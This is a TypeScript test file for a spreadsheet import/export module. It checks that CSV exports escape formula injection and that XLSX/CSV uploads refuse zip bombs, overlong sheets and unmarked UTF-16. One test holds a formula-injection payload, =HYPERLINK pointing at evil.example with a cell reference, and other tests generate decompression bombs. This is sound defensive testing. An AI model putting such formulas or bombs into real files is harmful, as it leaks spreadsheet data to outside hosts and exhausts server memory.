import ExcelJS from "exceljs";
import { TRPCError } from "@trpc/server";
import { describe, expect, it } from "vitest";
import { buildZip, xlsxBomb } from "../test/zip-builder.ts";
import { readMeasurementFile, readSectionedCsv, writeCsv } from "./spreadsheet.ts";

const MB = 1024 * 1024;

describe("writeCsv (agenda exports)", () => {
  it("escapes a formula with a line break inside it and one after leading line breaks", () => {
    const hyperlink = '=HYPERLINK("https://evil.example/?d="&A1,\n"Open")';
    const csv = writeCsv([{ key: "notes", sheetName: "Notities", columns: ["a", "b", "c"], rows: [[hyperlink, "\r\n+1", -5]] }]);
    const section = readSectionedCsv(csv.toString("utf-8")).get("notes");
    expect(section?.rows).toEqual([[`'${hyperlink}`, "'\r\n+1", "-5"]]);
  });
});

/** The refusal of reading a file: a BAD_REQUEST on contentBase64, or a failing test. */
async function refusal(read: Promise<unknown>): Promise<{ code: string; message: string; field: string | undefined }> {
  const error = await read.then(
    () => {
      throw new Error("the file was read");
    },
    (e: unknown) => e,
  );
  if (!(error instanceof TRPCError)) throw error;
  const issues = (error.cause as { issues?: { path: PropertyKey[] }[] } | undefined)?.issues;
  return { code: error.code, message: error.message, field: issues?.[0]?.path.join(".") };
}

/** Runs `work` and reports the most memory (heap + buffers) it added at any moment. */
async function peakMemoryGrowth<T>(work: () => Promise<T>): Promise<{ result: PromiseSettledResult<T>; peakMb: number; ms: number }> {
  const used = () => {
    const m = process.memoryUsage();
    return m.heapUsed + m.arrayBuffers;
  };
  const start = used();
  let peak = start;
  const sampler = setInterval(() => (peak = Math.max(peak, used())), 2);
  const began = performance.now();
  const [result] = await Promise.allSettled([work()]);
  const ms = performance.now() - began;
  clearInterval(sampler);
  peak = Math.max(peak, used());
  return { result: result!, peakMb: (peak - start) / MB, ms };
}

const base64 = (bytes: Buffer) => bytes.toString("base64");

describe("readMeasurementFile: zip bombs", () => {
  it("refuses an XLSX whose sheet unpacks to 200 MB of zeros from its directory alone, quickly and without growing the heap", async () => {
    const bomb = await xlsxBomb(200 * MB);
    expect(bomb.length).toBeLessThan(1 * MB);
    const { result, peakMb, ms } = await peakMemoryGrowth(() => refusal(readMeasurementFile("metingen.xlsx", base64(bomb))));
    expect(result.status).toBe("fulfilled");
    expect({ peakMb: Math.round(peakMb), fast: ms < 2000 }).toEqual({ peakMb: expect.any(Number), fast: true });
    expect(peakMb).toBeLessThan(40);
    const refused = (result as PromiseFulfilledResult<Awaited<ReturnType<typeof refusal>>>).value;
    expect(refused).toMatchObject({ code: "BAD_REQUEST", field: "contentBase64" });
    expect(refused.message).toMatch(/uitgepakt groter dan 20 MB/);
  });

  it("refuses a bomb whose directory lies about its size once inflating passes the declared size", async () => {
    const liar = await xlsxBomb(200 * MB, 100_000);
    const { result, peakMb } = await peakMemoryGrowth(() => refusal(readMeasurementFile("metingen.xlsx", base64(liar))));
    expect(peakMb).toBeLessThan(40);
    const refused = (result as PromiseFulfilledResult<Awaited<ReturnType<typeof refusal>>>).value;
    expect(refused).toMatchObject({ code: "BAD_REQUEST", field: "contentBase64" });
    expect(refused.message).toMatch(/niet goed opgebouwd/);
  });

  it("refuses an entry with an absurd compression ratio even when the total stays under the cap", async () => {
    const dense = await buildZip([{ name: "xl/worksheets/sheet1.xml", zeros: 15 * MB }]);
    const refused = await refusal(readMeasurementFile("metingen.xlsx", base64(dense)));
    expect(refused.message).toMatch(/niet goed opgebouwd/);
  });

  it("refuses a zip of thousands of tiny entries", async () => {
    const many = await buildZip(Array.from({ length: 1000 }, (_, i) => ({ name: `x/${i}.xml`, data: Buffer.from("<a/>") })));
    expect((await refusal(readMeasurementFile("metingen.xlsx", base64(many)))).field).toBe("contentBase64");
  });

  it("refuses bytes that start like a zip but are none", async () => {
    const fake = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(2000, 7)]);
    expect((await refusal(readMeasurementFile("metingen.xlsx", base64(fake)))).message).toMatch(/geen leesbaar Excel-bestand/);
  });
});

async function workbook(rows: number, extraSheetFirst = false): Promise<Buffer> {
  const book = new ExcelJS.Workbook();
  if (extraSheetFirst) book.addWorksheet("Toelichting").addRow(["Dit blad heeft geen metingen"]);
  const sheet = book.addWorksheet("Metingen");
  sheet.addRow(["indicator", "measured_on", "value", "note"]);
  for (let i = 0; i < rows; i++) sheet.addRow(["Studenten", new Date(Date.UTC(2000, 0, 1 + i)), i, `rij ${i}`]);
  return Buffer.from(await book.xlsx.writeBuffer());
}

describe("readMeasurementFile: XLSX streamed with a row cap", () => {
  it("reads 5000 rows from the sheet with the measurement columns, dates as dates", async () => {
    const file = await readMeasurementFile("metingen.xlsx", base64(await workbook(5000, true)));
    expect(file.rows).toHaveLength(5000);
    expect(file.rows[0]).toEqual({
      rowNumber: 2,
      indicatorId: "",
      indicatorName: "Studenten",
      measuredOn: "2000-01-01",
      value: "0",
      source: null,
      note: "rij 0",
    });
    expect(file.rows.at(-1)?.rowNumber).toBe(5001);
  });

  it("refuses the 5001st row", async () => {
    expect((await refusal(readMeasurementFile("metingen.xlsx", base64(await workbook(5001))))).message).toMatch(/meer dan 5000 rijen/);
  });
});

describe("readMeasurementFile: text encodings", () => {
  const csv = "indicator;measured_on;value;note\nStudenten;2017-12-31;118,5;Één meting";
  const bom16 = (le: boolean) => (le ? Buffer.from([0xff, 0xfe]) : Buffer.from([0xfe, 0xff]));
  const utf16 = (text: string, le: boolean) => {
    const bytes = Buffer.from(text, "utf16le");
    if (!le) bytes.swap16();
    return bytes;
  };

  it.each([
    ["little-endian", true],
    ["big-endian", false],
  ])("decodes UTF-16 %s with a byte order mark, as Excel's 'Unicode text' saves it", async (_, le) => {
    const file = await readMeasurementFile("metingen.csv", base64(Buffer.concat([bom16(le), utf16(csv, le)])));
    expect(file.rows).toEqual([
      { rowNumber: 2, indicatorId: "", indicatorName: "Studenten", measuredOn: "2017-12-31", value: "118,5", source: null, note: "Één meting" },
    ]);
  });

  it("reads Excel's tab-separated Unicode text", async () => {
    const tabbed = csv.replaceAll(";", "\t");
    const file = await readMeasurementFile("metingen.txt", base64(Buffer.concat([bom16(true), utf16(tabbed, true)])));
    expect(file.rows[0]).toMatchObject({ indicatorName: "Studenten", value: "118,5" });
  });

  it("says to save as UTF-8 when UTF-16 comes without a byte order mark", async () => {
    const refused = await refusal(readMeasurementFile("metingen.csv", base64(utf16(csv, true))));
    expect(refused).toMatchObject({ code: "BAD_REQUEST", field: "contentBase64" });
    expect(refused.message).toMatch(/UTF-16.*CSV UTF-8/);
  });
});
